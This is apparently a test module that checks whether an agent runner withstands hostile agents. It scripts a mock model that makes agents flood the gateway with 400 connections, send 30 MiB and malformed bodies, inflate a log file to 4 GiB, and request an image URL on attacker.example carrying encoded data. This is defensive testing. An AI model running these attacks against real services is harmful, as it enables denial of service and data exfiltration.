"""The soak's hostile phase (issue 49): real installed agents (`scaffold=installed/mini_swe_agent`) whose first
command, from the loopback model, attacks the runner that hosts them through its gateway and their files:

- `flood`: 400 connections held open to the rollout's gateway port (16 are served, the rest turned away);
- `bodies`: six 30 MiB request bodies (413), then 40 that are not JSON (the refusal budget closes the token
  and the rollout ends with `error`, saying so);
- `log`: the agent's trajectory log made a sparse 4 GiB file as soon as it is written (read to its cap);
- `image`: a chat completion naming `https://attacker.example/pixel.png` (refused before any model call).

Targets: every rollout recorded once; the runner's peak RSS under 512 MiB and its threads bounded (16 per
rollout's port at most); each attack seen where it should be (413s, a closed token, cut logs, a remote-URL
refusal); tokens and dollars equal to what the loopback server answered (a refused request reaches no model).
"""
from __future__ import annotations

import json
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

from tests.faults import SENTINEL, turn_of
from tests.openai_server import Received, Reply, completion, usage

KINDS = ("flood", "bodies", "log", "image")
_GATEWAY = ("import json, os, socket, time, urllib.parse, urllib.request\n"
            "base = os.environ['OPENAI_BASE_URL'].rstrip('/'); key = os.environ['OPENAI_API_KEY']\n"
            "def post(data):\n"
            "    req = urllib.request.Request(base + '/chat/completions', data=data, headers={\n"
            "        'Authorization': 'Bearer ' + key, 'Content-Type': 'application/json'})\n"
            "    try:\n"
            "        return urllib.request.urlopen(req, timeout=60).status\n"
            "    except Exception as e:\n"
            "        return getattr(e, 'code', type(e).__name__)\n")
ATTACKS = {
    "flood": "u = urllib.parse.urlsplit(base); held = []\n"
             "for _ in range(400):\n"
             "    try:\n"
             "        held.append(socket.create_connection((u.hostname, u.port), timeout=2))\n"
             "    except OSError:\n"
             "        pass\n"
             "time.sleep(3); print('hostile flood held', len(held))\n",
    "bodies": "codes = [post(b'{' + b' ' * (30 << 20)) for _ in range(6)] + [post(b'{not json') for _ in range(40)]\n"
              "print('hostile bodies', codes)\n",
    "log": "import subprocess\n"
           "watcher = ('import os, time\\nf = \"/tmp/optrunner-agent/mini.traj.json\"\\nwhile True:\\n'\n"
           "           '    time.sleep(0.005)\\n    try:\\n        s = os.stat(f).st_size\\n'\n"
           "           '    except OSError:\\n        continue\\n'\n"
           "           '    if 0 < s < (1 << 20):\\n        os.truncate(f, 4 << 30)\\n')\n"
           "subprocess.Popen(['python3', '-c', watcher], start_new_session=True, stdout=subprocess.DEVNULL,\n"
           "                 stderr=subprocess.DEVNULL); print('hostile log watcher started')\n",
    "image": "body = {'model': 'm', 'messages': [{'role': 'user', 'content': [{'type': 'image_url', 'image_url': {\n"
             "    'url': 'https://attacker.example/pixel.png?d=c2VjcmV0'}}]}]}\n"
             "print('hostile image', post(json.dumps(body).encode()))\n",
}


def attack(kind: str) -> str:
    """The agent's first command: a Python script on the image's python3, its text in a quoted heredoc."""
    return f"python3 - <<'HOSTILE'\n{_GATEWAY}{ATTACKS[kind]}HOSTILE"


@dataclass
class HostilePolicy:
    """A loopback policy: the i-th rollout (by first requests) runs attack KINDS[i % 4], then submits."""
    prompt: int = 200
    completion_tokens: int = 20
    firsts: int = 0
    injected: Counter[str] = field(default_factory=Counter)

    def __call__(self, received: Received) -> Reply:
        done = turn_of(received)
        if done == 0:
            kind = KINDS[self.firsts % len(KINDS)]
            self.firsts += 1
            self.injected[kind] += 1
            command = attack(kind)
        else:
            command = SENTINEL
        spent = usage(prompt=self.prompt, completion=self.completion_tokens)
        body = received.body if isinstance(received.body, dict) else {}
        if "bash" in {(t.get("function") or {}).get("name") for t in body.get("tools") or []}:  # its tool mode
            call = {"name": "bash", "arguments": json.dumps({"command": command})}
            return Reply(body=completion(f"Step {done}.", tool_calls=[call], usage_=spent))
        text = f"THOUGHT: step {done}.\n\n```mswea_bash_command\n{command}\n```"
        return Reply(body=completion(text, usage_=spent))


def hostile_targets(run: Any, parallel: int) -> list[tuple[str, str, bool]]:
    """The phase's targets, from its records and the runner's samples."""
    samples = [s for p in run.processes for s in p.seen.samples]
    peak_mib = max((s.rss_kb for s in samples), default=0) / 1024
    threads = max((s.threads for s in samples), default=0)
    rows = [r for r in run.records]
    calls = [c for r in rows for c in (r.get("details") or {}).get("gateway_calls") or []]
    cut = sum("cut at" in text for r in rows for text in ((r.get("details") or {}).get("agent_logs") or {}).values())
    closed = sum("closed this token" in (r.get("exit_message") or "") for r in rows)
    remote = sum(c["status"] == 400 and "remote URL" in (c.get("error") or "") for c in calls)
    too_big = sum(c["status"] == 413 for c in calls)
    bound = 100 + 16 * parallel
    return [
        ("hostile: every rollout recorded once", f"{len(run.keys)} of {run.planned}, {run.duplicates} twice",
         run.all_reasoned and run.duplicates == 0),
        ("hostile: runner peak RSS < 512 MiB", f"{peak_mib:.0f} MiB", 0 < peak_mib < 512),
        (f"hostile: runner threads <= {bound}", f"max {threads}", 0 < threads <= bound),
        ("hostile: bodies over 8 MiB refused (413)", f"{too_big} refused", too_big >= 1),
        ("hostile: token closed after repeated refusals", f"{closed} rollout(s)", closed >= 1),
        ("hostile: remote image URL refused before the model", f"{remote} refused", remote >= 1),
        ("hostile: sparse 4 GiB log kept cut", f"{cut} log(s) cut", cut >= 1),
        ("hostile: tokens and $ = the server's", f"{run.tokens_and_cost()[:2]} vs {run.server_tokens}",
         run.accounting_ok()),
    ]
